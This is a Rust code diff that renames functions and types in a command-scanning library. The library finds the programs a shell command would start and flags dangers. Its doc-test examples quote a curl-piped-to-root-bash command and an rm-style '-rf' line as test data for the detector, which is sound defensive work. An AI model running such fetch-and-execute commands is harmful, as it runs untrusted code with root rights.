@@ -22,16 +22,16 @@ use crate::{Excess, kind};
 /// ```
 /// use windlass_command::{Certainty, Danger, Scan};
 ///
-/// let scan = Scan::of("curl -s example.test/x | sudo -u root bash; git -C sub --no-pager push");
+/// let scan = Scan::scan("curl -s example.test/x | sudo -u root bash; git -C sub --no-pager push");
 /// assert!(scan.runs(&["git", "push"]) && scan.runs(&["curl"]));
 /// assert!(scan.dangers().contains(&Danger::FeedsShell));
-/// assert_eq!(Scan::of("$tool -rf x").certainty(), Certainty::Partial);
+/// assert_eq!(Scan::scan("$tool -rf x").certainty(), Certainty::Partial);
 /// ```
 #[derive(Debug, Clone, Default, PartialEq, Eq)]
 pub struct Scan {
-    found: Vec<Found>,
+    found: Vec<ProgramStart>,
     /// Found programs that may run a program that their words name, because no list rules it out.
-    loose: Vec<Found>,
+    loose: Vec<ProgramStart>,
     writes: Vec<String>,
     dangers: Vec<Danger>,
     partial: bool,
@@ -44,7 +44,7 @@ const LOOSE_WORDS: usize = 64;
 
 /// A program that a command would start, or may start.
 #[derive(Debug, Clone, PartialEq, Eq, Hash)]
-pub struct Found {
+pub struct ProgramStart {
     program: String,
     /// The words of the whole command, shared by all programs that were found in it.
     words: Arc<[String]>,
@@ -52,7 +52,7 @@ pub struct Found {
     is_pattern: bool,
 }
 
-impl Found {
+impl ProgramStart {
     /// Creates an entry for the program at the start of a range of words.
     pub(crate) fn new(program: &str, words: &Arc<[String]>, place: Range<usize>, is_pattern: bool) -> Self {
         Self { program: program.to_owned(), words: Arc::clone(words), place, is_pattern }
@@ -181,25 +181,25 @@ impl Scan {
     ///
     /// Time and memory are at most linear in the bytes of the text. The scan of a text that would cost more
     /// ends when its budget is exhausted; see [`Scan::excess`].
-    pub fn of(text: &str) -> Self {
+    pub fn scan(text: &str) -> Self {
         let mut search = Search::new(text.len());
         search.text(text);
         search.finish(text)
     }
 
-    /// Scans a program that is started without a shell, with the same limits as [`Scan::of`].
-    pub fn of_argv(argv: &[String]) -> Self {
+    /// Scans a program that is started without a shell, with the same limits as [`Scan::scan`].
+    pub fn scan_argv(argv: &[String]) -> Self {
         let mut search = Search::new(argv.iter().map(|word| word.len().saturating_add(1)).sum());
         search.argv(argv);
         search.finish("")
     }
 
     /// Returns every program that was found, wrappers and inner programs alike, in unspecified order.
-    pub fn found(&self) -> &[Found] {
+    pub fn programs(&self) -> &[ProgramStart] {
         &self.found
     }
 
-    /// Returns whether a rule of words applies to any found program; see [`Found::matches`].
+    /// Returns whether a rule of words applies to any found program; see [`ProgramStart::matches`].
     pub fn runs(&self, rule: &[&str]) -> bool {
         self.found.iter().any(|found| found.matches(rule))
     }
@@ -209,9 +209,9 @@ impl Scan {
     ///
     /// ```
     /// use windlass_command::Scan;
-    /// let scan = Scan::of("frobnicate rm x");
+    /// let scan = Scan::scan("frobnicate rm x");
     /// assert!(!scan.runs(&["rm"]) && scan.may_run(&["rm"]));
-    /// assert!(!Scan::of("grep rm x").may_run(&["rm"]));
+    /// assert!(!Scan::scan("grep rm x").may_run(&["rm"]));
     /// ```
     pub fn may_run(&self, rule: &[&str]) -> bool {
         self.runs(rule) || self.loose.iter().any(|found| found.may_run(rule))
